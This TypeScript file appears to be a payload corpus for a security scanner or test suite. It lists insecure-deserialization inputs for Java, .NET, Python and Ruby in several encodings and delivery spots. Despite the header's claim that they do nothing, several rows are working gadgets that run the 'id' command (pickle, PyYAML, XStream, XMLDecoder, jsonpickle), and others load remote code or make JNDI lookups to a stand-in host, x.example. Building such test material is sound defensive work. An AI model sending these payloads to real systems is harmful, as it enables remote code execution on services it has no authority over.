// Stored objects of Java, .NET, Python, Ruby, and names of classes in JSON, XML and YAML. Only heads of such objects are here:
// none of them does anything. Sources: specifications of the formats; shapes of ysoserial, ysoserial.net, marshalsec.
import { gzipSync } from "node:zlib"
import type { Family } from "../contract.ts"

/** An object of java.util.PriorityQueue, cut. */
const JAVA_OBJECT = Buffer.from(
    "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103000249000473697a654c000a636f6d70617261746f72",
    "hex",
)
/** A record of BinaryFormatter with the assembly of a list. */
const NET_OBJECT = Buffer.concat([
    Buffer.from("0001000000ffffffff01000000000000000c02000000", "hex"),
    Buffer.from("\u0049System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"),
    Buffer.from("0501000000", "hex"),
    Buffer.from("\u0084System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]", "latin1"),
])
const PICKLE = "cposix\nsystem\n(S'id'\ntR."
const PICKLE_4 = Buffer.from("80049518000000000000008c05706f736978948c0673797374656d9493948c02696494859452942e", "hex")
const MARSHAL = Buffer.from("\u0004\bo:\u0015Gem::Requirement\u0006:\u0012@requirements[\u0000")

export const OBJECTS: readonly Family[] = [
    {
        name: "java objects",
        rows: [
            ["cookie", JAVA_OBJECT.toString("base64"), "base64"],
            ["form", JAVA_OBJECT.toString("base64url"), "base64url"],
            ["form", JAVA_OBJECT.toString("hex"), "hex"],
            ["form", gzipSync(JAVA_OBJECT).toString("base64"), "packed, base64"],
            ["body application/octet-stream", JAVA_OBJECT.toString("latin1"), "bytes"],
            [
                "body application/xml",
                '<sorted-set><string>a</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
                "XStream",
            ],
            [
                "body text/xml",
                '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>',
                "XMLDecoder",
            ],
            [
                "body application/json",
                '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://x.example/a.sql\'"}]',
                "Jackson",
            ],
            [
                "body application/json",
                '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x.example/a","autoCommit":true}',
                "Fastjson",
            ],
            [
                "body application/json",
                '{"a":{"@type":"java.net.Inet4Address","val":"x.example"}}',
                "Fastjson: asks a name",
            ],
            [
                "body application/json",
                '{"\\u0040type":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://x.example/a"}',
                "an escaped key",
            ],
            [
                "form",
                '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example/"]]]]',
                "SnakeYAML",
            ],
            ["form", "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS A AS 'void a(){}'", "H2"],
            [
                "json",
                "jdbc:postgresql://x.example/a?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x.example/a.xml",
                "a driver's factory",
            ],
            ["json", "jdbc:mysql://x.example/a?autoDeserialize=true&allowLoadLocalInfile=true", "a driver's settings"],
        ],
    },
    {
        name: ".net objects",
        rows: [
            ["form", NET_OBJECT.toString("base64"), "BinaryFormatter, base64"],
            ["body application/octet-stream", NET_OBJECT.toString("latin1"), "BinaryFormatter, bytes"],
            [
                "body application/json",
                '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}',
                "Json.NET",
            ],
            [
                "body application/xml",
                '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider ObjectType="{x:Type d:Process}" MethodName="Start"/></ResourceDictionary>',
                "XAML",
            ],
            [
                "body application/json",
                '{"__type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install","Path":"file:///c:/x.dll"}',
                "JavaScriptSerializer",
            ],
        ],
    },
    {
        name: "python and ruby objects",
        rows: [
            ["form", PICKLE, "pickle 0"],
            ["cookie", Buffer.from(PICKLE).toString("base64"), "pickle 0, base64"],
            ["cookie", PICKLE_4.toString("base64"), "pickle 4, base64"],
            ["form", '!!python/object/apply:os.system ["id"]', "PyYAML"],
            ["body application/yaml", "a: !!python/object/new:subprocess.Popen\n  args: [[id]]", "PyYAML"],
            [
                "body application/json",
                '{"py/reduce":[{"py/function":"posix.system"},{"py/tuple":["id"]}]}',
                "jsonpickle",
            ],
            ["cookie", MARSHAL.toString("base64"), "Marshal, base64"],
            ["form", "--- !ruby/object:Gem::Installer\ni: x\n", "YAML"],
            ["body application/json", '{"^o":"Gem::Requirement","requirements":[]}', "Oj"],
            [
                "body application/x-yaml",
                "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? a\n: b",
                "YAML",
            ],
        ],
    },
]
